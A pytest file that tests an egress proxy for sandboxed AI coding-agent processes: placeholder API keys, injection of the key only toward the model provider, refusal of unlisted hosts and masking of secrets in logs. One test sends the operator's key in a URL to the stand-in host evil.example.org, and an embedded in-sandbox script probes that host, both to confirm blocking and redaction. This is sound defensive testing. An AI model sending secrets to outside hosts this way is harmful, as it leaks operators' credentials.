"""The way out as an agent's process has it: from the host's settings to what reaches a server, and the evidence."""

import json
import os
import shutil
import sys
from collections.abc import Iterable
from pathlib import Path
from typing import Any

import httpx
import pytest

from activities import artifact_store, egress, judge_process, rooms
from domain import errors, redaction
from integrations.agent import claude, codex, port
from sandbox import bridge, bubblewrap, process, unconfined
from sandbox.egress import evidence, rules
from tests.sandbox.egress import peers

KEY = "the-real-key-of-the-operator"
NAME = "registry.example.com"
RUN = "implement/acme/api/12"


def exits(
    tmp_path: Path,
    *private: str,
    environment: dict[str, str] | None = None,
    named: dict[str, tuple[str, ...]] | None = None,
    allowed: Iterable[str] = (),
) -> egress.Egress:
    return egress.Egress(
        rules.Rules.of(allowed, private=private, never=("code.example.org",)),
        artifact_store.DirectoryStore(tmp_path / "artifacts"),
        redaction.Redactor(frozenset({KEY})),
        {"PATH": os.environ["PATH"], **(environment or {})},
        named or {},
        peers.resolve_to_loopback,
    )


def backend(**settings: Any) -> claude.ClaudeBackend:
    return claude.ClaudeBackend(claude.ClaudeSettings(**settings))


def kept(tmp_path: Path, name: str = "turn-1") -> list[evidence.Record]:
    path = tmp_path / "artifacts" / "runs" / RUN / f"egress-{name}.jsonl"
    return [evidence.Record.model_validate_json(line) for line in path.read_text().splitlines()]


async def test_the_agent_gets_an_address_and_a_placeholder_and_the_provider_the_key(tmp_path: Path) -> None:
    async with peers.serving() as model:
        own = exits(tmp_path, environment={"ANTHROPIC_API_KEY": KEY, "ANTHROPIC_AUTH_TOKEN": KEY})
        api = backend(api_url=f"http://127.0.0.1:{model.port}")
        async with own.opened(RUN, "turn-1", tmp_path / "room", isolated=False, backend=api) as way:
            assert way.access is not None
            async with httpx.AsyncClient(trust_env=False) as client:
                shown = {"x-api-key": way.access.placeholder}
                answer = await client.post(f"{way.access.base_url}/v1/messages", json={}, headers=shown)
    assert answer.text == "hello"
    assert model.requests[0].headers["x-api-key"] == KEY
    assert way.socket is None
    assert KEY not in way.access.placeholder + str(way.variables)
    # Every variable that could hold the key is withheld, not only the one that did.
    assert way.passed(api.pass_environment) == ("ANTHROPIC_BASE_URL",)
    assert way.totals.model_requests == 1
    assert way.evidence is not None
    assert way.evidence.key == f"runs/{RUN}/egress-turn-1.jsonl"
    assert [(each.event, each.kind, each.status) for each in kept(tmp_path)] == [
        ("decided", "model", None),
        ("ended", "model", 200),
    ]


async def test_the_operators_own_gateway_gets_the_key_and_nobody_else(tmp_path: Path) -> None:
    async with peers.serving() as default, peers.serving() as gateway:
        address = f"http://127.0.0.1:{gateway.port}/anthropic"
        own = exits(tmp_path, environment={"ANTHROPIC_API_KEY": KEY, "ANTHROPIC_BASE_URL": address})
        api = backend(api_url=f"http://127.0.0.1:{default.port}")
        async with own.opened(RUN, "turn-1", tmp_path / "room", isolated=False, backend=api) as way:
            assert way.access is not None
            async with httpx.AsyncClient(trust_env=False) as client:
                shown = {"x-api-key": way.access.placeholder}
                await client.post(f"{way.access.base_url}/v1/messages", json={}, headers=shown)
    assert default.requests == []
    assert gateway.requests[0].target == "/anthropic/v1/messages"


async def test_two_turns_have_two_placeholders(tmp_path: Path) -> None:
    own, seen = exits(tmp_path, environment={"ANTHROPIC_API_KEY": KEY}), set()
    for name in ("turn-1", "turn-2"):
        async with own.opened(RUN, name, tmp_path / "room", isolated=False, backend=backend()) as way:
            assert way.access is not None
            seen.add(way.access.placeholder)
    assert len(seen) == 2


@pytest.mark.parametrize(
    ("cli", "environment", "hosts"),
    [
        (
            backend(),
            {"ANTHROPIC_AUTH_TOKEN": "t"},
            {"api.anthropic.com", "console.anthropic.com", "platform.claude.com"},
        ),
        (backend(credentials_file="/login.json"), {}, {"api.anthropic.com", "console.anthropic.com"}),
        (
            codex.CodexBackend(codex.CodexSettings(base_url="https://models.example.com:8443/v1")),
            {},
            {"models.example.com"},
        ),
    ],
)
async def test_a_cli_that_holds_its_login_may_go_to_its_model(
    tmp_path: Path, cli: port.AgentBackend, environment: dict[str, str], hosts: set[str]
) -> None:
    own = exits(tmp_path, environment=environment)
    async with own.opened(RUN, "turn-1", tmp_path / "room", isolated=False, backend=cli, wished=[]) as way:
        assert way.access is None
        assert set(way.passed(cli.pass_environment)) >= set(environment)
        for host in hosts:
            number = 8443 if host == "models.example.com" else 443
            through = f"CONNECT {host}:{number} HTTP/1.1\r\n%s\r\n" % credentials(way)
            await peers.ask(proxy_port(way), through.encode())
    # Under this test's resolver the hosts are private, so the list says yes and the address no.
    assert {(each.host, each.why) for each in kept(tmp_path)} == {(host, "address") for host in hosts}


async def test_an_address_that_is_none_is_a_configuration_error(tmp_path: Path) -> None:
    own = exits(tmp_path, environment={"ANTHROPIC_API_KEY": KEY, "ANTHROPIC_BASE_URL": "models.example.com"})
    with pytest.raises(errors.ConfigurationError, match="which is no http or https address"):
        async with own.opened(RUN, "turn-1", tmp_path, isolated=False, backend=backend()):
            pass


async def test_a_name_of_a_list_stands_for_its_hosts(tmp_path: Path) -> None:
    async with peers.serving() as server:
        hosts = (f"{NAME}:{server.port}", f"other.example.com:{server.port}")
        own = exits(tmp_path, *hosts, named={"python": (hosts[0],), "node": (hosts[1],)})
        async with (
            own.opened(RUN, "verify", tmp_path / "room", isolated=False, wished=["python"]) as way,
            httpx.AsyncClient(proxy=way.variables["HTTP_PROXY"], trust_env=False) as client,
        ):
            allowed = await client.get(f"http://{hosts[0]}/simple")
            refused = await client.get(f"http://{hosts[1]}/simple")
    assert (allowed.status_code, refused.status_code) == (200, 403)
    assert "not wished for by the repository" in refused.text
    assert way.totals.refused_hosts == ("other.example.com",)


async def test_a_process_that_asks_for_nothing_leaves_no_evidence(tmp_path: Path) -> None:
    async with exits(tmp_path).opened(RUN, "verify", tmp_path / "room", isolated=True) as way:
        assert way.socket == tmp_path / "room" / "egress" / "verify.sock"
        assert way.socket.exists()
        assert way.variables["HTTPS_PROXY"] == f"http://127.0.0.1:{bridge.PORT}"
    assert way.evidence is None
    assert not way.socket.exists()
    assert not (tmp_path / "artifacts").exists()


async def test_a_secret_in_an_address_is_masked_in_the_evidence(tmp_path: Path) -> None:
    async with exits(tmp_path).opened(RUN, "turn-1", tmp_path / "room", isolated=False) as way:
        raw = f"GET http://evil.example.org/{KEY} HTTP/1.1\r\n{credentials(way)}\r\n"
        assert peers.status(await peers.ask(proxy_port(way), raw.encode())) == 403
    assert kept(tmp_path)[0].path == "/[redacted:known-secret]"


async def test_a_way_that_fails_to_be_used_is_closed_all_the_same(tmp_path: Path) -> None:
    own = exits(tmp_path)
    with pytest.raises(ZeroDivisionError):
        async with own.opened(RUN, "turn-1", tmp_path / "room", isolated=True) as way:
            raise ZeroDivisionError
    assert way.socket is not None
    assert not way.socket.exists()


INSIDE = """
import json, os, sys, urllib.request, urllib.error
def ask(address, **more):
    try:
        return urllib.request.urlopen(urllib.request.Request(address, **more), timeout=10).status
    except urllib.error.HTTPError as error:
        return error.code
model = os.environ["ANTHROPIC_BASE_URL"] + "/v1/messages"
print(json.dumps({
    "allowed": ask(sys.argv[1]),
    "refused": ask("http://evil.example.org/"),
    "forge": ask("http://code.example.org/"),
    "model": ask(model, data=b"{}", headers={"x-api-key": os.environ["ANTHROPIC_API_KEY"]}),
    "names": sorted(os.environ),
    "held": [name for name, value in os.environ.items() if value == "the-real-key-of-the-operator"],
}))
"""


@pytest.mark.parametrize("level", ["none", "bubblewrap"])
async def test_a_confined_process_reaches_what_is_allowed_by_its_environment_alone(tmp_path: Path, level: str) -> None:
    """The same variables work with the host's network and without any."""
    environment = {"PATH": os.environ["PATH"], "ANTHROPIC_API_KEY": KEY, "HTTPS_PROXY": "http://host.example:1"}
    walls = unconfined.Unconfined() if level == "none" else bubblewrap.Bubblewrap.on(os.environ["PATH"])
    if walls.why_not or (level != "none" and shutil.which("bwrap") is None):
        pytest.skip(f"this level is NOT tested here: {walls.why_not}")
    room, work = rooms.Room(tmp_path / "room"), tmp_path / "work"
    room.prepare()
    work.mkdir()
    async with peers.serving() as server, peers.serving() as model:
        own = exits(tmp_path, f"{NAME}:{server.port}", environment=environment)
        cli = backend(api_url=f"http://127.0.0.1:{model.port}")
        confinement = rooms.Confinement(environment, walls)
        async with own.opened(RUN, "turn-1", room.root, isolated=walls.own_network, backend=cli) as way:
            assert way.access is not None
            told = {"ANTHROPIC_BASE_URL": way.access.base_url, "ANTHROPIC_API_KEY": way.access.placeholder}
            argv = (sys.executable, "-I", "-S", "-c", INSIDE, f"http://{NAME}:{server.port}/")
            command = way.of_command(port.Command(argv, told))
            spec = confinement.spec(command, room, work, way.passed(cli.pass_environment), network=way.socket)
            done = await process.capture(spec, seconds=40)
    if level != "none" and b"bwrap:" in done.stderr:
        pytest.skip("this machine allows no unprivileged namespaces: the level is NOT tested here")
    assert (done.status.exit_code, done.stderr) == (0, b"")
    found = json.loads(done.stdout)
    assert (found["allowed"], found["refused"], found["forge"], found["model"]) == (200, 403, 403, 200)
    assert found["held"] == []
    assert "ANTHROPIC_AUTH_TOKEN" not in found["names"]
    assert model.requests[0].headers["x-api-key"] == KEY
    assert [each.verdict for each in kept(tmp_path) if each.event == "decided"].count("refused") == 2


async def test_a_judge_reaches_its_model_and_nothing_else(tmp_path: Path) -> None:
    """It has no tools, so it may hold its key; what reaches it is an address, not the host's network."""
    environment = {"PATH": os.environ["PATH"], "ANTHROPIC_API_KEY": KEY, "HTTPS_PROXY": "http://host.example:1"}
    own = exits(tmp_path, environment=environment)
    confinement = rooms.Confinement(environment, unconfined.Unconfined())
    runner = judge_process.ConfinedRunner(tmp_path / "state", confinement, own, backend())
    text = "import json, os; print(json.dumps(dict(os.environ)))"
    ended = await runner(
        lambda home: port.Command((sys.executable, "-I", "-S", "-c", text)),
        passed=backend().pass_environment,
        seconds=30,
    )
    told = json.loads(ended.stdout)
    assert told["ANTHROPIC_API_KEY"] == KEY
    assert told["HTTPS_PROXY"].startswith("http://fettle:")
    assert list((tmp_path / "state" / "judges").iterdir()) == []


def proxy_port(way: egress.Way) -> int:
    return int(way.variables["HTTPS_PROXY"].rsplit(":", 1)[1])


def credentials(way: egress.Way) -> str:
    auth = httpx.BasicAuth(*way.variables["HTTPS_PROXY"].removeprefix("http://").split("@")[0].split(":"))
    request = next(auth.auth_flow(httpx.Request("GET", "http://x")))
    return f"Proxy-Authorization: {request.headers['authorization']}\r\n"
